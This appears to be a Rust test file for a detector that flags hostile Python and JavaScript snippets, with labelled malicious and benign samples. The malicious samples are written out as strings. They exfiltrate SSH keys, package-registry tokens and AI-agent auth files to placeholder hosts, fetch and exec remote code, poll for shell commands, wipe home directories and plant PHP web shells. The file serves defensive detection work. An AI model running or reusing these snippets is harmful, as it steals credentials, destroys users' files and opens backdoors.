//! What is handed on by defaults, fields of parameters, requests that are objects, and loops with a condition.

use super::*;

#[test]
fn a_parameter_that_a_call_leaves_out_is_its_default() {
    all_are(
        Dialect::Python,
        Rule::SecretSent,
        &[
            "import http.client\ndef out(data, host='a.example.invalid'):\n    c = http.client.HTTPSConnection(host)\n    c.request('POST', '/', body=data)\nout(open('/root/.ssh/id_rsa').read())\n",
            "import requests\nput = lambda d, u='https://a.example.invalid/x': requests.put(u, data=d)\nput(open('/root/.gnupg/a').read())\n",
            "import os, requests\nu = os.environ.get('SINK', 'https://a.example.invalid')\nrequests.post(u, data=open('/root/.ssh/id_rsa').read())\n",
        ],
    );
    all_are(
        Dialect::JavaScript,
        Rule::SecretSent,
        &[
            "const fs = require('fs');\nconst out = (d, at = 'https://a.example.invalid') => fetch(at, { method: 'POST', body: d });\nout(fs.readFileSync('/root/.ssh/id_rsa'));",
            "const fs = require('fs');\nfunction out(d, at = 'https://a.example.invalid') { fetch(at, { method: 'PUT', body: d }); }\nout(fs.readFileSync('/root/.ssh/id_rsa'));",
        ],
    );
    all_are_honest(
        Dialect::Python,
        &[
            "import requests\ndef post(data, url='https://api.example.invalid'):\n    requests.post(url, data=data)\npost(open('report.json').read())\nopen('/root/.ssh/id_rsa').read()\n",
            "import os, requests\nbase = os.environ.get('BASE', 'https://api.example.invalid')\nrequests.get(base, headers={'authorization': os.getenv('GITHUB_TOKEN', '')})\n",
        ],
    );
}

#[test]
fn a_parameter_with_a_modifier_is_a_field() {
    for modifier in ["private", "public readonly", "protected"] {
        let text = format!(
            "import fs from 'fs';\nclass Out {{\n  constructor({modifier} at: string, private n = 1) {{}}\n  put(x: unknown) {{ return fetch(`${{this.at}}/in`, {{ method: 'POST', body: JSON.stringify(x) }}); }}\n}}\nnew Out('https://a.example.invalid').put(fs.readFileSync('/root/.ssh/id_rsa'));"
        );
        all_are(Dialect::JavaScript, Rule::SecretSent, &[&text]);
    }
    all_are_honest(
        Dialect::JavaScript,
        &[
            "class Client {\n  constructor(private base: string, private readonly token: string) {}\n  get(p: string) { return fetch(this.base + p, { headers: { authorization: `Bearer ${this.token}` } }); }\n}\nnew Client('https://api.example.invalid', process.env.GITHUB_TOKEN!).get('/me');",
        ],
    );
}

#[test]
fn a_request_that_is_an_object_is_sent_and_answered_later() {
    all_are(
        Dialect::Python,
        Rule::FetchRun,
        &[
            "from urllib.request import Request, urlopen\nr = Request('http://203.0.113.9/m.py', headers={'User-Agent': 'x'})\nexec(urlopen(r).read())\n",
            "import urllib.request as u\nwith u.urlopen(u.Request('http://203.0.113.9/m.py')) as f:\n    exec(compile(f.read(), 'm', 'exec'))\n",
        ],
    );
    all_are(
        Dialect::Python,
        Rule::ReverseShell,
        &[
            "import json, subprocess, urllib.request as u\nAT = 'https://a.example.invalid'\ndef ask(p, d):\n    with u.urlopen(u.Request(AT + p, json.dumps(d).encode())) as f:\n        return json.load(f)\nfor job in ask('/jobs', {}):\n    p = subprocess.run(job['c'], shell=True, capture_output=True)\n    ask('/done', {'o': p.stdout})\n",
        ],
    );
    all_are(
        Dialect::Python,
        Rule::SecretSent,
        &[
            "import urllib.request as u\nr = u.Request('https://a.example.invalid')\nr.data = open('/root/.ssh/id_rsa', 'rb').read()\nu.urlopen(r)\n",
        ],
    );
    all_are(
        Dialect::JavaScript,
        Rule::FetchRun,
        &[
            "const r = new Request('http://203.0.113.9/m.js');\neval(await (await fetch(r)).text());",
        ],
    );
    all_are_honest(
        Dialect::Python,
        &[
            "import json, urllib.request as u\nr = u.Request('https://api.example.invalid/x', json.dumps({'a': 1}).encode())\nr.add_header('Authorization', 'Bearer ' + open('/root/.config/gh/hosts.yml').read())\nprint(json.load(u.urlopen(r)))\n",
        ],
    );
}

#[test]
fn each_of_a_few_files_that_a_condition_keeps_is_read() {
    all_are(
        Dialect::Python,
        Rule::SecretSent,
        &[
            "import httpx\nfrom pathlib import Path\nclass P:\n    ALL = ('.claude.json', '.codex/auth.json')\n    def __init__(self, home):\n        self.home = home\n    def found(self):\n        return {n: (self.home / n).read_text() for n in self.ALL if (self.home / n).exists()}\n    async def sync(self):\n        async with httpx.AsyncClient() as c:\n            await c.post('https://a.example.invalid', json=self.found())\nP(Path.home()).sync()\n",
            "import os, requests\nat = [os.path.expanduser(p) for p in ('~/.npmrc', '~/.pypirc')]\nrequests.post('https://a.example.invalid', json=[open(p).read() for p in at if os.path.isfile(p)])\n",
        ],
    );
    all_are_honest(
        Dialect::Python,
        &[
            "import os, requests\nnames = [n for n in ('~/.npmrc', '~/.pypirc') if os.path.isfile(os.path.expanduser(n))]\nrequests.post('https://a.example.invalid', json={'count': len(names)})\n",
        ],
    );
}

#[test]
fn folders_of_people_that_are_deleted_and_pages_that_run_what_is_sent() {
    all_are(
        Dialect::Python,
        Rule::HomeDestroyed,
        &[
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Desktop'))\n",
            "import shutil\nfrom pathlib import Path\nfor n in ('Pictures', 'Documents'):\n    shutil.rmtree(Path.home() / n, True)\n",
        ],
    );
    all_are(
        Dialect::JavaScript,
        Rule::HomeDestroyed,
        &[
            "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });",
            "import { rm } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport path from 'node:path';\nawait rm(path.join(homedir(), 'Documents'), { recursive: true });",
        ],
    );
    all_are(
        Dialect::Python,
        Rule::WebShell,
        &[
            "open('/var/www/html/a.php', 'w').write('<?php system($_GET[\"q\"]); ?>')\n",
            "from pathlib import Path\nPath('wp-content/uploads/.i.php').write_text('<?php @eval(base64_decode($_POST[1]));')\n",
        ],
    );
    all_are_honest(
        Dialect::Python,
        &[
            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\nshutil.rmtree('build')\n",
            "import shutil, sys\nfrom pathlib import Path\nt = Path(sys.argv[1])\nif t == Path.home():\n    sys.exit('refused')\nshutil.rmtree(t)\n",
            "RULE = 'system($_GET'\nopen('report.php', 'w').write('<?php echo $_GET[\"a\"];')\nopen('tests/shell.php', 'w').write('<?php system($_GET[0]);')\n",
        ],
    );
    all_are(
        Dialect::JavaScript,
        Rule::SecretSent,
        &[
            "const fs = require('fs'), os = require('os');\nconst read = (n) => { try { return fs.readFileSync(os.homedir() + '/' + n, 'utf8'); } catch { return ''; } };\nconst all = ['.npmrc', '.pypirc'].reduce((o, n) => ({ ...o, [n]: read(n) }), {});\nfetch('https://a.example.invalid', { method: 'POST', body: JSON.stringify(all) });",
        ],
    );
}

#[test]
fn a_folder_of_people_that_is_deleted_behind_a_question_is_in_doubt() {
    all_are(
        Dialect::Python,
        Rule::HomeDestroyedAsked,
        &[
            "import shutil, os\nif input('Delete? ') == 'y':\n    shutil.rmtree(os.path.expanduser('~/Documents'))\n",
            "import click, shutil\nfrom pathlib import Path\nif click.confirm('Delete?'):\n    shutil.rmtree(Path.home() / 'Pictures')\n",
            "import argparse, shutil, os\np = argparse.ArgumentParser()\np.add_argument('--yes', action='store_true')\nif p.parse_args().yes:\n    shutil.rmtree(os.path.expanduser('~/Desktop'))\n",
        ],
    );
    all_are(
        Dialect::Python,
        Rule::HomeDestroyed,
        &[
            "import shutil, os\n# input('Delete? ')\nshutil.rmtree(os.path.expanduser('~/Documents'))  # confirm()\n",
        ],
    );
    all_are_honest(
        Dialect::Python,
        &[
            "import shutil\nfrom pathlib import Path\nif input('Delete? ') == 'y':\n    shutil.rmtree(Path.home() / '.helper')\nshutil.rmtree(Path.home() / 'helper-work')\nshutil.rmtree(Path.home() / '.cache')\n",
        ],
    );
}

#[test]
fn a_body_that_begins_with_a_text_goes_on_behind_it() {
    let class = "import urllib.request\nclass R:\n    DOC\n    at = 'http://203.0.113.9/u'\n\n    def load(self, u):\n        DOC\n        exec(urllib.request.urlopen(u + '/x').read())\n\n    def go(self):\n        self.load(self.at)\n";
    for doc in [
        "'Less.'",
        "\"\"\"Less.\"\"\"",
        "\"\"\"\n    Less\n    and more.\n    \"\"\"",
        "f'{__name__}'",
        "r'a\\nb'",
    ] {
        all_are(Dialect::Python, Rule::FetchRun, &[&class.replace("DOC", doc)]);
    }
    all_are_honest(
        Dialect::Python,
        &[
            "def f(k):\n    'Text.'\n    return 1\nk = open('/root/.ssh/id_rsa').read()\ndef post(k):\n    'Posts.'\n    import requests\n    requests.post('https://api.example.invalid', data=k)\npost('a')\n",
        ],
    );
}
